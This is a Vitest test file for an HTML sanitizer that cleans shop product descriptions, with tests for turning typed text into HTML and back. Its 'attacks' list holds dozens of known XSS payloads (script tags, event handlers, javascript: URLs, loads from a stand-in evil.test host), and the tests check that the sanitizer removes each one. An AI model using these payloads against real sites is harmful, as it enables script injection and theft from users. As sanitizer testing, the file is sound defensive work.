import { describe, expect, test } from 'vitest'
import { cleanHtml, htmlOfTyped, typedOfHtml } from './rules'

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert`1`">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a onclick="alert(1)" href="https://good.test">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p/onclick=alert(1)>x',
  '<div onpointerenter=alert(1)>x</div>',
  '<body onload=alert(1)>x',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test"</style>',
  '<base href="//evil.test/">',
  '<form action="//evil.test"><input name=p><button formaction=javascript:alert(1)>x</button></form>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<<script>script>alert(1)<</script>/script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="https://a.test" target="_blank" rel="opener">x</a>',
  '<td colspan="2" onclick="x">a</td>',
]

describe('a description from outside', () => {
  test.each(attacks)('%s runs nothing and loads nothing', (attack) => {
    const clean = cleanHtml(`<p>before</p>${attack}<p>after</p>`)
    // whatever markup is left is of the allowed kind and carries only allowed attributes
    for (const [, tag, attributes] of clean.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)>/gi)) {
      expect([
        'p',
        'h2',
        'h3',
        'h4',
        'a',
        'ul',
        'ol',
        'li',
        'br',
        'hr',
        'strong',
        'b',
        'em',
        'i',
        'u',
        's',
        'blockquote',
        'table',
        'thead',
        'tbody',
        'tr',
        'th',
        'td',
      ]).toContain(tag)
      expect(
        attributes
          ?.replace(
            /\s(href="(https?:|mailto:|\/(?!\/)|#)[^"]*"|rel="nofollow noopener"|(col|row)span="\d+"|scope="\w+"| ?\/)/g,
            '',
          )
          .replace('/', '')
          .trim(),
      ).toBe('')
    }
    expect(clean).not.toMatch(/<(script|img|svg|iframe|object|style|meta|base|form)/i)
    expect(cleanHtml(clean)).toBe(clean)
  })

  test('keeps what a shopper reads, and drops the noise of exports', () => {
    expect(
      cleanHtml(
        '<meta charset="utf-8">\r\n<p><span style="line-height: 1.4;">Soft <em>cotton</em></span></p>\n\n<p>&nbsp;</p><h1>Care</h1><ul class="tabs"><li>Wash cold</li></ul>',
      ),
    ).toBe('<p>Soft <em>cotton</em></p>\n<h2>Care</h2><ul><li>Wash cold</li></ul>')
    expect(cleanHtml('<a href="https://a.test/?a=1&b=2" target="_blank">more</a>')).toBe(
      '<a href="https://a.test/?a=1&amp;b=2" rel="nofollow noopener">more</a>',
    )
  })
})

describe('a description that is typed', () => {
  const typed = '手感温润的粗陶杯。\n每一只都略有不同。\n\n- 350 ml\n- 可进洗碗机 & 微波炉\n\n产地：景德镇 <手作>'
  test('becomes paragraphs and lists, and comes back as it was typed', () => {
    const html = htmlOfTyped(typed)
    expect(html).toBe(
      '<p>手感温润的粗陶杯。<br />每一只都略有不同。</p>\n<ul>\n<li>350 ml</li>\n<li>可进洗碗机 &amp; 微波炉</li>\n</ul>\n<p>产地：景德镇 &lt;手作&gt;</p>',
    )
    expect(typedOfHtml(html)).toBe(typed)
    expect(cleanHtml(html)).toBe(html)
  })
  test('markup without line breaks is shown as text too', () => {
    expect(typedOfHtml('<p>甲</p><ul><li>乙</li><li>丙</li></ul><p>丁</p>')).toBe('甲\n\n- 乙\n- 丙\n\n丁')
  })
  test('markup that text can not say stays markup', () => {
    const html = '<p>Soft <em>cotton</em></p>'
    expect(typedOfHtml(html)).toBe(html)
    expect(htmlOfTyped(html)).toBe(html)
  })
  test('markup that is typed is cleaned', () => {
    expect(htmlOfTyped('<p onclick="x">a</p><script>1</script>')).toBe('<p>a</p>')
  })
})
